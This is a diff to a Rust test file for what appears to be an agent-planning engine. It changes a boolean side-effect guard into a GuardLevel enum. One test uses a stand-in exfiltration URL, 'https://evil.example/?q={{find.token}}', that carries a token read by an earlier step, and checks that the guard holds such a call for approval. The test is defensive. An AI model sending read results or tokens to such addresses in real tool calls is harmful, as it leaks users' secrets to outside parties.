@@ -2,7 +2,9 @@
 
 use std::sync::Arc;
 
-use reknit_engine::{Decision, ParameterRole, Policy, Question, RoleRule, SideEffectPolicy, Started, TrustRule};
+use reknit_engine::{
+    Decision, GuardLevel, ParameterRole, Policy, Question, RoleRule, SideEffectPolicy, Started, TrustRule,
+};
 use reknit_mend::PeoplePolicy;
 use reknit_plan::{CatalogueEntry, CatalogueTool};
 use reknit_protocol::{Capability, SideEffect};
@@ -342,10 +344,10 @@ fn a_value_of_a_trusted_field_is_sent_where_one_of_another_result_is_asked_about
 
 /// A model's plan of one step each, first and, after a failure, second.
 fn planned(request: &str, tools: &[&str], first: &str) -> Play {
-    planned_with(false, request, tools, first)
+    planned_with(GuardLevel::Off, request, tools, first)
 }
 
-fn planned_with(guard: bool, request: &str, tools: &[&str], first: &str) -> Play {
+fn planned_with(guard: GuardLevel, request: &str, tools: &[&str], first: &str) -> Play {
     let mut policy = policy();
     policy.effects.guard = guard;
     (policy.mending.feedback, policy.mending.context, policy.resend.times) = (0, 0, 0);
@@ -462,21 +464,21 @@ fn a_name_that_is_one_letter_away_from_that_of_the_request_is_asked_about() {
 
 #[test]
 fn with_the_guard_on_a_second_plan_keeps_to_the_capabilities_of_the_first() {
-    let again = |guard: bool, capability: &str| {
+    let again = |guard: GuardLevel, capability: &str| {
         let mut play = planned_with(guard, "pay 5 to DE1", &["bank"], &call("look", "bank", "read", r#"{"x": 1}"#));
         play.answer_tool("look/call/1", 404, NOT_FOUND);
         let second = call("again", "bank", capability, r#"{"account": "DE1", "amount": 5}"#);
         play.answer_model("plan/ask/2", &format!(r#"{{"steps": [{second}]}}"#));
         play.due().swap_remove(0)
     };
-    assert_eq!(again(false, "keyed"), "again/call/1");
-    assert_eq!(again(true, "keyed"), "again/approval/1");
-    assert_eq!(again(true, "read"), "again/call/1", "a read is no call that changes something");
+    assert_eq!(again(GuardLevel::Off, "keyed"), "again/call/1");
+    assert_eq!(again(GuardLevel::Targets, "keyed"), "again/approval/1");
+    assert_eq!(again(GuardLevel::Targets, "read"), "again/call/1", "a read is no call that changes something");
 }
 
 #[test]
 fn with_the_guard_on_no_read_carries_results_to_an_address_that_nobody_named() {
-    let read = |guard: bool, request: &str, url: &str| {
+    let read = |guard: GuardLevel, request: &str, url: &str| {
         let steps = vec![step("find", "read", "{}"), step("s", "act", &format!(r#"{{"url": "{url}"}}"#)).after("find")];
         let effects = SideEffectPolicy { guard, ..SideEffectPolicy::default() };
         let begun = started(Some(plan(steps)), Policy { effects, ..policy() });
@@ -485,9 +487,12 @@ fn with_the_guard_on_no_read_carries_results_to_an_address_that_nobody_named() {
         play.due().swap_remove(0)
     };
     let stolen = "https://evil.example/?q={{find.token}}";
-    assert_eq!(read(false, "read it", stolen), "s/call/1");
-    assert_eq!(read(true, "read it", stolen), "s/approval/1");
-    assert_eq!(read(true, "read it", "{{find.next}}"), "s/call/1", "a whole field");
-    assert_eq!(read(true, "read it", "https://b.example/x"), "s/call/1", "it carries nothing");
-    assert_eq!(read(true, "read https://c.example/s3cr3t-77", "https://c.example/{{find.token}}"), "s/call/1");
+    assert_eq!(read(GuardLevel::Off, "read it", stolen), "s/call/1");
+    assert_eq!(read(GuardLevel::Targets, "read it", stolen), "s/approval/1");
+    assert_eq!(read(GuardLevel::Targets, "read it", "{{find.next}}"), "s/call/1", "a whole field");
+    assert_eq!(read(GuardLevel::Targets, "read it", "https://b.example/x"), "s/call/1", "it carries nothing");
+    assert_eq!(
+        read(GuardLevel::Targets, "read https://c.example/s3cr3t-77", "https://c.example/{{find.token}}"),
+        "s/call/1"
+    );
 }
